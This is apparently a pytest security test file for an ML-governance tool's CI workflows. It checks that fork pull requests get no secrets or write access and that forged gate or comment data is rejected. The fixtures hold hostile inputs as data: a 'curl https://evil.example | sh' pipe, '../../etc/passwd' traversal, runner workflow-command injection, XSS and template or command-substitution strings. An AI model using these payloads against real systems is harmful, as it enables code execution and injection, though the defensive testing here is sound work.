"""F7: a fork's pull request with a changed model and configuration runs without secrets; nothing is published by it."""

from __future__ import annotations

import json
import re

import pytest
import yaml
from pipelines import Runner, load_yaml, step

from mlgov.api.starting import init_folder

UNTRUSTED = ("pull_request", "pull_request_review")
FORGED_PASS = {
    "format": "mlgov-gate/1",
    "decisions": [{"subject": "p/m@1", "stage": "release", "passed": True, "exit_code": 0, "reasons": []}],
}
REASON = {"text": "AUC fails.", "source": "x", "blocking": True, "waits_for": "owner", "status": "", "about": "version"}
COMMENT = {
    "format": 1,
    "portal": "P",
    "items": [{"subject": "p/m@1", "title": "T", "verdict": "Fit.", "good": True}],
}


@pytest.fixture(scope="module")
def flows(tmp_path_factory):
    """The generated GitHub workflows by name."""
    top = tmp_path_factory.mktemp("team")
    (top / ".git").mkdir()
    init_folder(top, ci="github")
    folder = top / ".github" / "workflows"
    return {path.name: load_yaml(path) for path in folder.glob("*.yml")}, folder


def reached_by_forks(flows) -> dict:
    """Workflows that a pull request starts, from its own files."""
    return {name: flow for name, flow in flows[0].items() if set(UNTRUSTED) & set(flow["on"])}


def test_what_a_fork_starts_has_no_secret_and_can_only_read(flows) -> None:
    """No secret, no environment, no write permission, no identity token, no cache, no credentials left in the clone."""
    found = reached_by_forks(flows)
    assert list(found) == ["mlgov.yml"]
    for flow in found.values():
        assert flow["permissions"] == {}
        for job in flow["jobs"].values():
            assert set(job["permissions"].values()) == {"read"}
            assert "environment" not in job
            for each in job["steps"]:
                if each.get("uses", "").startswith("actions/checkout@"):
                    assert each["with"]["persist-credentials"] is False
                assert "cache" not in each.get("with", {})
        assert "secrets." not in json.dumps(flow)
        assert "pull_request_target" not in flow["on"]


def test_the_token_is_not_there_while_the_proposal_is_read(flows) -> None:
    """Only the step that saves answers may ask the platform, and it doesn't read the proposal."""
    steps = flows[0]["mlgov.yml"]["jobs"]["propose"]["steps"]
    assert [each["name"] for each in steps if "GH_TOKEN" in each.get("env", {})] == ["Save what reviewers said"]


def test_what_may_write_never_takes_anything_of_the_proposal_but_data(flows) -> None:
    """The trusted workflow checks out no reference of a request, and what it runs comes from the protected branch."""
    job = flows[0]["mlgov-trusted.yml"]["jobs"]["tell"]
    assert [each for each in job["steps"] if "ref" in each.get("with", {})] == []
    texts = "\n".join(each.get("run", "") for each in job["steps"])
    assert not re.search(r"git (fetch|checkout|worktree|clone)|refs/pull|source |\beval\b|bash ", texts)
    assert set(re.findall(r"mlgov (\w+)", texts)) == {"comment", "gate"}
    assert re.findall(r"mlgov (?:comment|gate) --(\w+)", texts) == ["data", "data"]


def test_nothing_that_publishes_can_be_started_by_a_request(flows) -> None:
    """Secrets, the portal's branch and pages belong to a workflow of the protected branch."""
    flow = flows[0]["mlgov-publish.yml"]
    assert set(flow["on"]) == {"push", "schedule", "workflow_dispatch"}
    assert flow["on"]["push"] == {"branches": ["main"]}
    assert [name for name, each in flows[0].items() if "secrets." in json.dumps(each)] == ["mlgov-publish.yml"]
    for name, job in flow["jobs"].items():
        assert "refs/heads/main" in job["if"] or job["needs"] == "portal", name
        assert job["permissions"]


@pytest.mark.parametrize("platform", ["gitlab", "azure"])
def test_elsewhere_the_job_that_reads_proposals_has_no_token(tmp_path, platform) -> None:
    """On GitLab by the environment's scope, on Azure step by step; and no request's own pipeline runs anything of it."""
    (tmp_path / ".git").mkdir()
    init_folder(tmp_path, ci=platform)
    if platform == "gitlab":
        data = load_yaml(tmp_path / ".gitlab" / "mlgov.yml")
        assert "environment" not in data["mlgov:judge"]
        assert "environment" in data["mlgov:save"]
        assert "environment" in data["mlgov:tell"]
        assert "merge_request_event" not in json.dumps(data)
        return
    data = yaml.safe_load((tmp_path / ".azuredevops" / "mlgov.yml").read_text())
    steps = [each for job in data["jobs"] for each in job["steps"] if "bash" in each]
    judging = [each for each in steps if "judge.sh" in each["bash"]]
    assert [each.get("env") for each in judging] == [None]
    assert all(
        each.get("persistCredentials") is False for job in data["jobs"] for each in job["steps"] if "checkout" in each
    )


@pytest.fixture
def reading(flows, tmp_path):
    """Reads data as the trusted stage does; gives what it said, and what it would set."""
    runner = Runner(tmp_path / "machine", tmp_path)
    data = runner.temp / "data"
    data.mkdir()

    def read(gate: object, comment: object, untrusted: str = "true") -> tuple[str, str]:
        for name, what in (("gate", gate), ("comment", comment)):
            text = what if isinstance(what, str) else json.dumps(what)
            (data / f"{name}.json").write_text(text)
        script = step(flows[1] / "mlgov-trusted.yml", "tell", "Read the data")
        env = {"LINK": "", "UNTRUSTED": untrusted, "RAN": "success"}
        done = runner.run(script, check=False, **env)
        assert "Traceback" not in done.stderr
        made = runner.temp / "comment.md"
        return runner.outputs.get("state", "error"), made.read_text() if done.returncode == 0 else ""

    return read


BAD_GATES = {
    "no data": "",
    "too deep": "[" * 100_000,
    "another format": FORGED_PASS | {"format": "mlgov-gate/2"},
    "a key more": FORGED_PASS | {"run": "curl https://evil.example | sh"},
    "passes with a reason that keeps it shut": {
        "format": "mlgov-gate/1",
        "decisions": [FORGED_PASS["decisions"][0] | {"reasons": [REASON]}],
    },
    "a code that no gate has": {
        "format": "mlgov-gate/1",
        "decisions": [FORGED_PASS["decisions"][0] | {"exit_code": 1}],
    },
    "a text for a truth value": {
        "format": "mlgov-gate/1",
        "decisions": [FORGED_PASS["decisions"][0] | {"passed": "true"}],
    },
    "a name that is a path": {
        "format": "mlgov-gate/1",
        "decisions": [FORGED_PASS["decisions"][0] | {"subject": "../../etc/passwd"}],
    },
    "a line that speaks to the runner": {
        "format": "mlgov-gate/1",
        "decisions": [FORGED_PASS["decisions"][0] | {"subject": "p/m@1\n::set-output name=state::success"}],
    },
}


@pytest.mark.parametrize("name", BAD_GATES)
def test_forged_gate_data_never_become_a_success(reading, name) -> None:
    """What isn't exactly as the gate writes it is an error."""
    state, _ = reading(BAD_GATES[name], COMMENT)
    assert state == "error"


BAD_COMMENTS = {
    "no data": "",
    "a list": [],
    "a key more": COMMENT | {"script": "<script>"},
    "a page elsewhere": COMMENT | {"items": [COMMENT["items"][0] | {"page": "https://evil.example/(x)"}]},
    "numbers without end": COMMENT | {"items": [COMMENT["items"][0] | {"numbers": [{"title": "t", "value": "v"}] * 9}]},
}


@pytest.mark.parametrize("name", BAD_COMMENTS)
def test_a_forged_comment_is_not_posted(reading, name) -> None:
    """The step fails, so that nothing is posted."""
    _, comment = reading(FORGED_PASS, BAD_COMMENTS[name])
    assert comment == ""


def test_texts_of_a_fork_do_nothing_in_the_comment(reading) -> None:
    """HTML, links, mentions, workflow commands and another portal's marker are shown as they are; it is not verified."""
    evil = (
        "<img src=x onerror=alert(1)> [x](javascript:1) @everybody ![](https://evil.example) ::error::x {{7*7}} `$(id)`"
    )
    item = COMMENT["items"][0] | {
        "title": evil[:200],
        "verdict": evil,
        "proposed": f"<!-- mlgov:comment other -->\n{evil}",
    }
    _, comment = reading(FORGED_PASS, COMMENT | {"portal": "</h2><script>x", "items": [item]})
    assert "**Not verified.**" in comment
    unescaped = re.sub(r"\\.", "", comment)  # what a backslash stands before is shown as it is
    for live in ("<img", "<script", "](", "![", "<!-- mlgov:comment other", "`$("):
        assert live not in unescaped
    assert not re.search(r"(?m)^::", comment)
    assert not re.search(r"(?<![\\\w])@everybody", comment)
